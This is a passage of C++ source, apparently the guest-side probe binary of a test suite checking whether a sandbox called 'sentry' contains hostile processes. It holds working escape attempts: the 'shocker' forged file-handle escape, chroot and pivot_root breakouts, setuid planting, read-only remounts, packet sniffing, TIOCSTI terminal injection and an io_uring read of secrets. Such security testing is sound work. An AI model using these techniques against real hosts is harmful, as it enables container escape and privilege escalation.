  report("sethostname", sethostname(n.data(), n.size()));
  write_file("create-in-world", arg_str(a, 2) + "/setns-" + arg_str(a, 3), "x", O_CREAT | O_EXCL);
}

// ===========================================================================
// Network. Judged from the host: its lo sniffer sees no frame carrying the
// marker, its abstract/path listeners see nothing, /proc/net/unix of the host
// does not show the guest's names, the host's lo keeps its address and MTU.

uint16_t inet_csum(const void* data, size_t n) {
  uint32_t sum = 0;
  const auto* p = static_cast<const uint8_t*>(data);
  for (size_t i = 0; i + 1 < n; i += 2) sum += (p[i] << 8) | p[i + 1];
  if (n & 1) sum += p[n - 1] << 8;
  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<uint16_t>(~sum));
}

std::string marker(const Args& a, size_t i, const char* what) { return "HOSTILE-NET-" + arg_str(a, i) + "-" + what; }

void raw_icmp(const Args& a) {
  int s = report("socket-AF_INET-SOCK_RAW", socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP));
  if (s < 0) return;
  std::string payload = marker(a, 0, "raw4");
  std::string pkt(sizeof(icmphdr), '\0');
  pkt += payload;
  auto* h = reinterpret_cast<icmphdr*>(pkt.data());
  h->type = ICMP_ECHO;
  h->un.echo.id = htons(0x4854);
  h->checksum = inet_csum(pkt.data(), pkt.size());
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  report("sendto-127.0.0.1", sendto(s, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to));
}

void raw_icmpv6(const Args& a) {
  int s = report("socket-AF_INET6-SOCK_RAW", socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMPV6));
  if (s < 0) return;
  std::string payload = marker(a, 0, "raw6");
  std::string pkt(sizeof(icmp6_hdr), '\0');
  pkt += payload;
  auto* h = reinterpret_cast<icmp6_hdr*>(pkt.data());
  h->icmp6_type = ICMP6_ECHO_REQUEST;  // the kernel fills in the checksum
  sockaddr_in6 to{};
  to.sin6_family = AF_INET6;
  to.sin6_addr = in6addr_loopback;
  report("sendto-::1", sendto(s, pkt.data(), pkt.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to));
}

// An Ethernet frame of a local experimental type on "lo".
void packet_send(const Args& a) {
  int s = report("socket-AF_PACKET", socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)));
  if (s < 0) return;
  std::string payload = marker(a, 0, "packet");
  std::string frame(12, '\0');  // destination and source MAC: zero
  frame += "\x88\xb5";          // ETH_P_802_EX1, a local experimental type
  frame += payload;
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(if_nametoindex("lo"));
  to.sll_halen = 6;
  report("sendto-lo", sendto(s, frame.data(), frame.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to),
         "ifindex=" + std::to_string(to.sll_ifindex));
}

// Listens 1.5 s on a packet socket for the host's own datagrams (the script
// sends "sentry-hostile-sniff:<secret>" to 127.0.0.1:9 meanwhile).
void packet_sniff(const Args&) {
  int s = report("socket-AF_PACKET", socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, htons(ETH_P_ALL)));
  if (s < 0) return;
  timeval tv{0, 100000};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  timespec t0;
  clock_gettime(CLOCK_MONOTONIC, &t0);
  long frames = 0, shown = 0;
  for (;;) {
    timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    if ((t.tv_sec - t0.tv_sec) * 1000 + (t.tv_nsec - t0.tv_nsec) / 1000000 > 1500) break;
    char buf[2048];
    ssize_t n = recv(s, buf, sizeof buf, 0);
    if (n <= 0) continue;
    ++frames;
    std::string_view v(buf, n);
    size_t i = v.find("sentry-hostile-sniff");
    if (i != std::string_view::npos && shown++ < 3) note("sniffed", escaped(buf + i, std::min<size_t>(80, n - i)));
  }
  note("frames", std::to_string(frames));
}

void abstract_connect(const Args& a) {
  int s = report("socket", socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_un sa;
  socklen_t len = abstract_addr(arg_str(a, 0), &sa);
  if (report("connect-abstract", connect(s, reinterpret_cast<sockaddr*>(&sa), len)) < 0) return;
  std::string m = marker(a, 1, "abstract");
  report("send", send(s, m.data(), m.size(), 0));
}

void abstract_dgram(const Args& a) {
  int s = report("socket", socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  sockaddr_un sa;
  socklen_t len = abstract_addr(arg_str(a, 0), &sa);
  std::string m = marker(a, 1, "dgram");
  report("sendto-abstract", sendto(s, m.data(), m.size(), 0, reinterpret_cast<sockaddr*>(&sa), len));
}

// Binds and holds an abstract name for 1.5 s; the host polls its own
// /proc/net/unix for it meanwhile.
void abstract_bind(const Args& a) {
  int s = report("socket", socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_un sa;
  socklen_t len = abstract_addr(arg_str(a, 0), &sa);
  if (report("bind-abstract", bind(s, reinterpret_cast<sockaddr*>(&sa), len)) < 0) return;
  report("listen", listen(s, 4));
  say("READY");
  sleep_ms(1500);
}

// A host socket file owned by root with mode 0600 (like /run/docker.sock).
void unix_path_host(const Args& a) {
  int s = report("socket", socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_un sa{};
  sa.sun_family = AF_UNIX;
  snprintf(sa.sun_path, sizeof sa.sun_path, "%s", arg_str(a, 0).c_str());
  if (report("connect-path", connect(s, reinterpret_cast<sockaddr*>(&sa), sizeof sa)) < 0) return;
  std::string m = marker(a, 1, "path");
  report("send", send(s, m.data(), m.size(), 0));
}

// sock_diag dump of every unix socket; prints the names of sentry-hostile
// ones (the guest is not told the host listeners' names).
void netlink_diag_unix(const Args&) {
  int s = report("socket-NETLINK_SOCK_DIAG", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_SOCK_DIAG));
  if (s < 0) return;
  struct {
    nlmsghdr nh;
    unix_diag_req r;
  } req{};
  req.nh.nlmsg_len = sizeof req;
  req.nh.nlmsg_type = SOCK_DIAG_BY_FAMILY;
  req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP;
  req.r.sdiag_family = AF_UNIX;
  req.r.udiag_states = ~0u;
  req.r.udiag_show = UDIAG_SHOW_NAME;
  if (report("send-dump", send(s, &req, sizeof req, 0)) < 0) return;
  long sockets = 0;
  for (bool done = false; !done;) {
    alignas(nlmsghdr) char buf[32768];
    ssize_t n = recv(s, buf, sizeof buf, 0);
    if (n <= 0) {
      report("recv", n < 0 ? -1 : 0);
      break;
    }
    for (auto* nh = reinterpret_cast<nlmsghdr*>(buf); NLMSG_OK(nh, n); nh = NLMSG_NEXT(nh, n)) {
      if (nh->nlmsg_type == NLMSG_DONE) {
        done = true;
        break;
      }
      if (nh->nlmsg_type == NLMSG_ERROR) {
        errno = -reinterpret_cast<nlmsgerr*>(NLMSG_DATA(nh))->error;
        report("dump", -1);
        done = true;
        break;
      }
      ++sockets;
      auto* m = reinterpret_cast<unix_diag_msg*>(NLMSG_DATA(nh));
      int len = nh->nlmsg_len - NLMSG_LENGTH(sizeof *m);
      for (auto* at = reinterpret_cast<rtattr*>(m + 1); RTA_OK(at, len); at = RTA_NEXT(at, len)) {
        if (at->rta_type != UNIX_DIAG_NAME) continue;
        std::string name(static_cast<char*>(RTA_DATA(at)), RTA_PAYLOAD(at));
        if (name.find("sentry-hostile") != std::string::npos) note("name", escaped(name.data(), name.size()));
      }
    }
  }
  note("sockets", std::to_string(sockets));
}

// Kernel uevents (the script writes a synthetic one carrying a secret once
// READY is printed). Only netns owned by the initial user namespace get them.
void netlink_uevent(const Args&) {
  int s = report("socket-KOBJECT_UEVENT", socket(AF_NETLINK, SOCK_DGRAM | SOCK_CLOEXEC, NETLINK_KOBJECT_UEVENT));
  if (s < 0) return;
  sockaddr_nl sa{};
  sa.nl_family = AF_NETLINK;
  sa.nl_groups = 1;
  report("bind-group1", bind(s, reinterpret_cast<sockaddr*>(&sa), sizeof sa));
  timeval tv{0, 200000};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  say("READY");
  long got = 0;
  for (int i = 0; i < 15; ++i) {  // ~3 s
    char buf[8192];
    ssize_t n = recv(s, buf, sizeof buf, 0);
    if (n <= 0) continue;
    ++got;
    std::string_view v(buf, n);
    if (v.find("SYNTH_ARG_HOSTILE") != std::string_view::npos) {
      note("uevent", escaped(buf, n));
      break;
    }
  }
  note("uevents", std::to_string(got));
}

// Waits up to 1 s for the kernel's answer to an NLM_F_ACK request and
// reports its error (or "ok").
void netlink_ack(int s) {
  timeval tv{1, 0};
  setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  alignas(nlmsghdr) char buf[1024];
  ssize_t n = recv(s, buf, sizeof buf, 0);
  auto* nh = reinterpret_cast<nlmsghdr*>(buf);
  if (n >= static_cast<ssize_t>(NLMSG_LENGTH(sizeof(nlmsgerr))) && nh->nlmsg_type == NLMSG_ERROR) {
    errno = -static_cast<nlmsgerr*>(NLMSG_DATA(nh))->error;
    report("ack", errno ? -1 : 0);
  } else {
    report("recv-ack", n < 0 ? -1 : 0);
  }
}

// An AUDIT_USER_AVC message (logged by the kernel even with audit off).
void netlink_audit(const Args& a) {
  int s = report("socket-NETLINK_AUDIT", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_AUDIT));
  if (s < 0) return;
  std::string text = "HOSTILE-AUDIT-" + arg_str(a, 0);
  std::vector<char> msg(NLMSG_SPACE(text.size() + 1));
  auto* nh = reinterpret_cast<nlmsghdr*>(msg.data());
  nh->nlmsg_len = NLMSG_LENGTH(text.size() + 1);
  nh->nlmsg_type = AUDIT_USER_AVC;
  nh->nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK;
  memcpy(NLMSG_DATA(nh), text.c_str(), text.size() + 1);
  sockaddr_nl kernel{};
  kernel.nl_family = AF_NETLINK;
  ssize_t sent = sendto(s, msg.data(), nh->nlmsg_len, 0, reinterpret_cast<sockaddr*>(&kernel), sizeof kernel);
  if (report("sendto", sent) < 0) return;
  netlink_ack(s);
}

// RTM_NEWADDR: ADDR/32 on interface 1 (lo).
void netlink_route_addr(const Args& a) {
  int s = report("socket-NETLINK_ROUTE", socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE));
  if (s < 0) return;
  in_addr addr{};
  inet_pton(AF_INET, arg_str(a, 0).c_str(), &addr);
  struct {
    nlmsghdr nh;
    ifaddrmsg ifa;
    char attrs[64];
  } req{};
  req.nh.nlmsg_type = RTM_NEWADDR;
  req.nh.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL;
  req.ifa.ifa_family = AF_INET;
  req.ifa.ifa_prefixlen = 32;
  req.ifa.ifa_scope = RT_SCOPE_HOST;
  req.ifa.ifa_index = 1;
  size_t len = NLMSG_LENGTH(sizeof(ifaddrmsg));
  for (unsigned short type : {IFA_LOCAL, IFA_ADDRESS}) {
    auto* at = reinterpret_cast<rtattr*>(reinterpret_cast<char*>(&req) + NLMSG_ALIGN(len));
    at->rta_type = type;
    at->rta_len = RTA_LENGTH(sizeof addr);
    memcpy(RTA_DATA(at), &addr, sizeof addr);
    len = NLMSG_ALIGN(len) + RTA_ALIGN(at->rta_len);
  }
  req.nh.nlmsg_len = len;
  if (report("send-RTM_NEWADDR", send(s, &req, len, 0)) < 0) return;
  netlink_ack(s);
}

void ioctl_lo_mtu(const Args& a) {
  int s = report("socket", socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  if (s < 0) return;
  ifreq ifr{};
  snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "lo");
  ifr.ifr_mtu = static_cast<int>(arg_long(a, 0));
  report("SIOCSIFMTU", ioctl(s, SIOCSIFMTU, &ifr));
}

// ===========================================================================
// Keyrings. Judged: root's user keyring and the script's session keyring
// gain no key; their keys' payloads do not appear here.

constexpr int kKeySpecSession = -3, kKeySpecUser = -4;
constexpr int kKeyctlSearch = 10, kKeyctlRead = 11;

long add_key(const std::string& desc, const std::string& payload, int ring) {
  return syscall(SYS_add_key, "user", desc.c_str(), payload.data(), payload.size(), ring);
}

void keyctl_read(const char* ring_name, int ring, const std::string& desc) {
  long id = report((std::string("search-") + ring_name).c_str(),
                   syscall(SYS_keyctl, kKeyctlSearch, ring, "user", desc.c_str(), 0));
  if (id < 0) return;
  char buf[512];
  long n = report("read", syscall(SYS_keyctl, kKeyctlRead, id, buf, sizeof buf));
  if (n > 0) note("payload", escaped(buf, std::min<long>(n, sizeof buf)));
}

void keyctl_add(const Args& a) {
  report("add_key-user-keyring", add_key(arg_str(a, 0), "hostile", kKeySpecUser));
  report("add_key-session-keyring", add_key(arg_str(a, 1), "hostile", kKeySpecSession));
}
// Root's user keyring: through the guest's own user keyring (the same one
// when the guest's uid is the host's) and through the session keyring (which,
// like after a login, links the user keyring of whoever started sentry).
void keyctl_read_user(const Args& a) {
  keyctl_read("user", kKeySpecUser, arg_str(a, 0));
  keyctl_read("session", kKeySpecSession, arg_str(a, 0));
}
void keyctl_read_session(const Args& a) { keyctl_read("session", kKeySpecSession, arg_str(a, 0)); }

// ===========================================================================
// IPC: SysV shm of the host (IPC namespace), the host's /dev/shm.

void sysv_shm(const Args& a) {
  int id = report("shmget", shmget(static_cast<key_t>(arg_long(a, 0)), 0, 0));
  if (id < 0) return;
  void* p = shmat(id, nullptr, SHM_RDONLY);
  if (report("shmat", p == reinterpret_cast<void*>(-1) ? -1 : 0) < 0) return;
  note("content", escaped(p, strnlen(static_cast<char*>(p), 128)));
}
void dev_shm_read(const Args& a) { print_file("read", arg_str(a, 0)); }
void dev_shm_write(const Args& a) { write_file("create", arg_str(a, 0), "hostile\n", O_CREAT | O_EXCL); }

// ===========================================================================
// Credentials and file permissions.

void read_secret(const Args& a) { print_file("read", arg_str(a, 0)); }

// A 0600 file the guest made as its root must be unreadable after setuid to
// nobody (judged by the errno: this is the kernel's own check).
void setuid_own_file(const Args&) {
  write_file("create-own600", "own600", "own secret\n", O_CREAT | O_TRUNC, 0600);
  chmod("own600", 0600);
  drop_to_nobody();
  int fd = open("own600", O_RDONLY | O_CLOEXEC);
  report("open-after-setuid", fd);
}

// PATH is a 0600 file of host root in the working directory.
void setuid_host_file(const Args& a) {
  drop_to_nobody();
  print_file("read-after-setuid", arg_str(a, 0));
}

void setuid_regain(const Args& a) {
  drop_to_nobody();
  report("setuid-0", setuid(0));
  report("setresuid-0", setresuid(0, 0, 0));
  report("setreuid-0", setreuid(0, 0));
  __user_cap_header_struct h{_LINUX_CAPABILITY_VERSION_3, 0};
  __user_cap_data_struct d[2];
  memset(d, 0xff, sizeof d);
  report("capset-all", syscall(SYS_capset, &h, d));
  print_file("read-after-regain", arg_str(a, 0));
}

// Executes a setuid-root copy of this program (args: suid copy, secret) after
// dropping to nobody; the copy prints the secret if it became root.
void setuid_exec(const Args& a) {
  drop_to_nobody();
  std::string suid = arg_str(a, 0), secret = arg_str(a, 1);
  char* argv[] = {const_cast<char*>("hostile_suid"), const_cast<char*>("read_file"), secret.data(), nullptr};
  char* envp[] = {nullptr};
  execve(suid.c_str(), argv, envp);
  report("execve-suid", -1);
}

void chown_readonly(const Args& a) {
  report("chown", chown(arg_str(a, 0).c_str(), 65534, 65534));
  report("lchown", lchown(arg_str(a, 0).c_str(), 65534, 65534));
}
void chmod_readonly(const Args& a) { report("chmod-0666", chmod(arg_str(a, 0).c_str(), 0666)); }

// A hard link to the host secret inside the writable working directory.
void hardlink_secret(const Args& a) {
  if (report("link", link(arg_str(a, 0).c_str(), "hl")) == 0) print_file("read-link", "hl");
}

// A setuid/setgid file planted where host users can reach it (a host
// directory the guest may write: its working directory or /tmp). Judged from
// the host: such a file must not be owned by host root with the bit set.
void suid_plant(const std::string& dir, const std::string& tag) {
  std::string p = dir + "/sentry-hostile-suid-" + tag;
  write_file("create", p, "#!/bin/sh\nid\n", O_CREAT | O_EXCL, 0755);
  report("chown-0-0", chown(p.c_str(), 0, 0));
  report("chmod-06755", chmod(p.c_str(), 06755));
  struct stat st {};
  if (stat(p.c_str(), &st) == 0) {
    char b[64];
    snprintf(b, sizeof b, "mode=%o uid=%u gid=%u", st.st_mode & 07777, st.st_uid, st.st_gid);
    note("guest-view", b);
  }
}
void suid_plant_cwd(const Args& a) { suid_plant(".", arg_str(a, 0)); }

// The same through the create mode (openat's mode register, openat2's mode
// in memory, O_TMPFILE then linkat): a file created set-ID in a granted
// place is host root's. Judged from the host as suid_plant.
void suid_create_cwd(const Args& a) {
  const std::string tag = arg_str(a, 0);
  for (const char* how : {"openat", "openat2", "openat2-rdonly", "tmpfile"}) {
    const std::string p = "./sentry-hostile-suidc-" + std::string(how) + "-" + tag;
    long fd = -1;
    if (std::string(how) == "openat") {
      fd = syscall(SYS_openat, AT_FDCWD, p.c_str(), O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 06755);
    } else if (std::string(how).rfind("openat2", 0) == 0) {
      open_how h{};
      h.flags = O_CREAT | O_EXCL | O_CLOEXEC | (std::string(how) == "openat2" ? O_WRONLY : O_RDONLY);
      h.mode = 06755;
      fd = syscall(SYS_openat2, AT_FDCWD, p.c_str(), &h, sizeof h);
    } else {
      fd = syscall(SYS_openat, AT_FDCWD, ".", O_TMPFILE | O_WRONLY | O_CLOEXEC, 06755);
    }
    if (report((std::string("create-") + how).c_str(), fd) < 0) continue;
    // Nothing else: any write, truncate or chown would clear the bits
    // (the guest has no CAP_FSETID); an empty set-ID file of host root's
    // is the trap (host root's later cp into it keeps the mode).
    if (std::string(how) == "tmpfile") {
      const std::string proc = "/proc/self/fd/" + std::to_string(fd);
      report("linkat", linkat(AT_FDCWD, proc.c_str(), AT_FDCWD, p.c_str(), AT_SYMLINK_FOLLOW));
    }
    struct stat st {};
    if (fstat(static_cast<int>(fd), &st) == 0) {
      char b[64];
      snprintf(b, sizeof b, "mode=%o uid=%u gid=%u", st.st_mode & 07777, st.st_uid, st.st_gid);
      note("guest-view", b);
    }
    close(static_cast<int>(fd));
  }
}
void suid_plant_tmp(const Args& a) { suid_plant(arg_str(a, 0), arg_str(a, 1)); }

// Host root's private files in the host's /tmp (writable for the guest):
// a 0600 file in a 0700 directory, and a 0644 file.
void tmp_read_root_secret(const Args& a) { print_file("read", arg_str(a, 0)); }
void tmp_write_root_file(const Args& a) {
  write_file("append", arg_str(a, 0), "PWNED\n", O_APPEND);
  report("chmod-0666", chmod(arg_str(a, 0).c_str(), 0666));
}

// ===========================================================================
// Read-only host filesystem. Judged: the host tree is unchanged.

void write_readonly(const Args& a) {
  write_file("open-write", arg_str(a, 0), "PWNED\n");
  report("truncate", truncate(arg_str(a, 0).c_str(), 0));
}
void unlink_readonly(const Args& a) {
  report("rename", rename(arg_str(a, 0).c_str(), (arg_str(a, 0) + ".moved").c_str()));
  report("unlink", unlink(arg_str(a, 0).c_str()));
}
void write_etc(const Args& a) {
  write_file("create-etc", "/etc/sentry-hostile-" + arg_str(a, 0), "x\n", O_CREAT | O_EXCL);
}
void write_usr(const Args& a) {
  write_file("create-usr", "/usr/sentry-hostile-" + arg_str(a, 0), "x\n", O_CREAT | O_EXCL);
  write_file("create-usr-bin", "/usr/bin/sentry-hostile-" + arg_str(a, 0), "x\n", O_CREAT | O_EXCL);
}
// A world-writable (1777) host directory outside the writable areas.
void write_world_dir(const Args& a) {
  write_file("create-in-world", arg_str(a, 0) + "/direct-" + arg_str(a, 1), "x\n", O_CREAT | O_EXCL);
}

// ===========================================================================
// The mount family. Judged: the host's mount table is unchanged and the
// world-writable host directory gains no file.

void mount_tmpfs(const Args& a) { report("mount-tmpfs", mount("tmpfs", arg_str(a, 0).c_str(), "tmpfs", 0, "size=1m")); }

void umount_host(const Args& a) {
  report("umount2-detach", umount2(arg_str(a, 0).c_str(), MNT_DETACH));
  report("umount2", umount2(arg_str(a, 0).c_str(), 0));
}

// Remounts the mount that holds WORLD read-write (only "ro" cleared), then
// writes into WORLD.
void remount_rw(const Args& a) {
  std::string opts;
  std::string mp = mount_point_of(arg_str(a, 0), &opts);
  note("mount-point", mp + " " + opts);
  report("remount-bind-rw",
         mount(nullptr, mp.c_str(), nullptr, MS_REMOUNT | MS_BIND | flags_without_ro(opts), nullptr));
  write_file("create-in-world", arg_str(a, 0) + "/remount-" + arg_str(a, 1), "x\n", O_CREAT | O_EXCL);
}

// A bind mount the guest makes itself is not locked: can it be made
// read-write even though its source is read-only?
void bind_remount_rw(const Args& a) {
  mkdir("bindw", 0755);
  if (report("bind", mount(arg_str(a, 0).c_str(), "bindw", nullptr, MS_BIND, nullptr)) < 0) return;
  report("remount-bind-rw", mount(nullptr, "bindw", nullptr, MS_REMOUNT | MS_BIND, nullptr));
  write_file("create-via-bind", "bindw/bind-" + arg_str(a, 1), "x\n", O_CREAT | O_EXCL);
}

// The same with the new mount API on a detached clone (no mount point needed).
void newmount_api_rw(const Args& a) {
  struct {
    uint64_t attr_set, attr_clr, propagation, userns_fd;
  } attr{0, 0x1 /*MOUNT_ATTR_RDONLY*/, 0, 0};
  int fd = report("open_tree-clone",
                  syscall(SYS_open_tree, AT_FDCWD, arg_str(a, 0).c_str(), 1 /*OPEN_TREE_CLONE*/ | O_CLOEXEC));
  if (fd < 0) return;
  report("mount_setattr-clear-ro", syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attr, sizeof attr));
  int f = report("openat-create",
                 openat(fd, ("newapi-" + arg_str(a, 1)).c_str(), O_CREAT | O_EXCL | O_WRONLY | O_CLOEXEC, 0644));
  if (f >= 0) report("write", write(f, "x\n", 2));
}

// A nested user + mount namespace, then the bind/remount trick inside it.
void unshare_remount(const Args& a) {
  in_child("child", [&] {
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (report("unshare-USER-NS", unshare(CLONE_NEWUSER | CLONE_NEWNS)) < 0) return;
    write_file("setgroups", "/proc/self/setgroups", "deny");
    write_file("uid_map", "/proc/self/uid_map", "0 " + std::to_string(uid) + " 1");
    write_file("gid_map", "/proc/self/gid_map", "0 " + std::to_string(gid) + " 1");
    report("make-private", mount(nullptr, "/", nullptr, MS_REC | MS_PRIVATE, nullptr));
    mkdir("ubind", 0755);
    if (report("bind", mount(arg_str(a, 0).c_str(), "ubind", nullptr, MS_BIND, nullptr)) < 0) return;
    report("remount-bind-rw", mount(nullptr, "ubind", nullptr, MS_REMOUNT | MS_BIND, nullptr));
    write_file("create-via-bind", "ubind/unshare-" + arg_str(a, 1), "x\n", O_CREAT | O_EXCL);
  });
}

// pivot_root into a fresh tmpfs, then write into WORLD through the old root.
// The script only runs this where mount_tmpfs did not reach the host's mount
// table (never in the host's mount namespace).
void pivot_root_attack(const Args& a) {
  mkdir("newroot", 0755);
  if (report("mount-tmpfs", mount("tmpfs", "newroot", "tmpfs", 0, "size=1m")) < 0) return;
  mkdir("newroot/old", 0755);
  if (report("pivot_root", syscall(SYS_pivot_root, "newroot", "newroot/old")) < 0) return;
  report("chdir-/", chdir("/"));
  write_file("create-via-old-root", "/old" + arg_str(a, 0) + "/pivot-" + arg_str(a, 1), "x\n", O_CREAT | O_EXCL);
}

// chroot into a subdirectory, climb out with the classic fd trick and "..".
void chroot_escape(const Args& a) {
  mkdir("jail", 0755);
  int outside = open(".", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (report("chroot-jail", chroot("jail")) < 0) return;
  report("fchdir-outside", fchdir(outside));
  for (int i = 0; i < 64; ++i) chdir("..");
  report("chroot-.", chroot("."));
  print_file("read-secret", arg_str(a, 0));
}

// open_by_handle_at with a forged ext4 handle of the root inode (2): the
// "shocker" container escape; then the secret relative to it. Also a handle
// obtained with name_to_handle_at.
void open_by_handle(const Args& a) {
  int mount_fd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  struct {
    file_handle fh;
    unsigned char bytes[128];
  } h{};
  h.fh.handle_bytes = 8;
  h.fh.handle_type = 1;  // FILEID_INO32_GEN
  uint32_t ino_gen[2] = {2, 0};
  memcpy(h.fh.f_handle, ino_gen, 8);
  int root =
      report("open_by_handle_at-forged-root", syscall(SYS_open_by_handle_at, mount_fd, &h.fh, O_RDONLY | O_DIRECTORY));
  std::string rel = arg_str(a, 0).substr(1);
  if (root >= 0) {
    int fd = report("openat-secret", openat(root, rel.c_str(), O_RDONLY | O_CLOEXEC));
    if (fd >= 0) {
      std::string s = read_fd(fd);
      note("content", escaped(s.data(), s.size()));
    }
  }
  h = {};
  h.fh.handle_bytes = 128;
  int mnt_id;
  if (report("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, arg_str(a, 0).c_str(), &h.fh, &mnt_id, 0)) <
      0)
    return;
  int fd = report("open_by_handle_at", syscall(SYS_open_by_handle_at, mount_fd, &h.fh, O_RDONLY));
  if (fd >= 0) {
    std::string s = read_fd(fd);
    note("content", escaped(s.data(), s.size()));
  }
}

// ===========================================================================
// Device nodes.

// Lists /dev; the script compares with the nodes a private /dev may have.
void dev_list(const Args&) {
  std::string names;
  if (DIR* d = opendir("/dev")) {
    while (dirent* e = readdir(d))
      if (e->d_name[0] != '.') names += std::string(" ") + e->d_name;
    closedir(d);
  } else {
    report("opendir", -1);
  }
  say("DEVS%s", names.c_str());
}

// 64 bytes at offset 1024 of a host block device (the script's loop device
// holds a secret there).
void read_block(const char* step, const std::string& path) {
  int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (report(step, fd, path) < 0) return;
  char buf[64];
  ssize_t n = report("pread-1024", pread(fd, buf, sizeof buf, 1024));
  if (n > 0) note("content", escaped(buf, n));
}
void dev_block(const Args& a) { read_block("open-block", arg_str(a, 0)); }
void dev_mknod(const Args& a) {
  report("mknod-block", mknod("blk", S_IFBLK | 0600, makedev(arg_long(a, 0), arg_long(a, 1))));
  read_block("open-mknod", "blk");
}

// Kernel log records containing the script's marker prefix.
void dev_kmsg_read(const Args&) {
  int fd = report("open-kmsg", open("/dev/kmsg", O_RDONLY | O_NONBLOCK | O_CLOEXEC));
  if (fd < 0) return;
  long records = 0;
  for (;;) {
    char buf[8192];
    ssize_t n = read(fd, buf, sizeof buf);
    if (n < 0 && errno == EPIPE) continue;  // overwritten record
    if (n <= 0) break;
    ++records;
    std::string_view v(buf, n);
    if (v.find("sentry-hostile-kmsg") != std::string_view::npos) note("record", escaped(buf, n));
  }
  note("records", std::to_string(records));
}
void dev_kmsg_write(const Args& a) {
  write_file("write-kmsg", "/dev/kmsg", "sentry-hostile-kmsgw HOSTILE-KMSG-" + arg_str(a, 0) + "\n");
}
void syslog_read(const Args&) {
  std::vector<char> buf(1 << 20);
  int n = report("klogctl-READ_ALL", klogctl(3, buf.data(), buf.size()));
  if (n <= 0) return;
  std::string_view v(buf.data(), n);
  for (size_t i = v.find("sentry-hostile-kmsg"); i != std::string_view::npos;
       i = v.find("sentry-hostile-kmsg", i + 1)) {
    size_t e = v.find('\n', i);
    note("line", escaped(buf.data() + i, (e == std::string_view::npos ? v.size() : e) - i));
  }
}

// ===========================================================================
// Terminal: push characters into the input of the terminal sentry was
// started on. Judged by the host shell that reads that terminal next.

void tiocsti_fd(int fd, const std::string& text) {
  int ok = 0, first_err = 0;
  for (char c : text) {
    if (ioctl(fd, TIOCSTI, &c) == 0) {
      ++ok;
    } else if (!first_err) {
      first_err = errno;
    }
  }
  note("TIOCSTI", std::to_string(ok) + "/" + std::to_string(text.size()) + " chars" +
                      (first_err ? std::string(", ") + err_name(first_err) : ""));
}
void tiocsti(const Args& a) {
  note("isatty-0", isatty(0) ? "yes" : "no");
  tiocsti_fd(0, arg_str(a, 0) + "\n");
}
void tiocsti_devtty(const Args& a) {
  int fd = report("open-/dev/tty", open("/dev/tty", O_RDWR | O_CLOEXEC));
  if (fd >= 0) tiocsti_fd(fd, arg_str(a, 0) + "\n");
}

// ===========================================================================
// Exotic ABIs and seccomp bypasses.

// io_uring: an OPENAT of the secret, then read(2) of the fd it returns.
void io_uring_attack(const Args& a) {
  io_uring_params p{};
  int ring = report("io_uring_setup", syscall(SYS_io_uring_setup, 4, &p));
  if (ring < 0) return;
  size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe);
  auto* sq = static_cast<char*>(mmap(nullptr, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQ_RING));
  auto* cq = static_cast<char*>(mmap(nullptr, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_CQ_RING));
  auto* sqes = static_cast<io_uring_sqe*>(
      mmap(nullptr, p.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring, IORING_OFF_SQES));
  if (sq == MAP_FAILED || cq == MAP_FAILED || sqes == MAP_FAILED) return (void)report("mmap-rings", -1);
  std::string path = arg_str(a, 0);
  io_uring_sqe& e = sqes[0];
  memset(&e, 0, sizeof e);
  e.opcode = IORING_OP_OPENAT;
  e.fd = AT_FDCWD;
  e.addr = reinterpret_cast<uint64_t>(path.c_str());
  e.open_flags = O_RDONLY;
  auto* tail = reinterpret_cast<std::atomic<unsigned>*>(sq + p.sq_off.tail);
  auto* mask = reinterpret_cast<unsigned*>(sq + p.sq_off.ring_mask);
  auto* array = reinterpret_cast<unsigned*>(sq + p.sq_off.array);
  unsigned t = tail->load();
  array[t & *mask] = 0;
  tail->store(t + 1, std::memory_order_release);
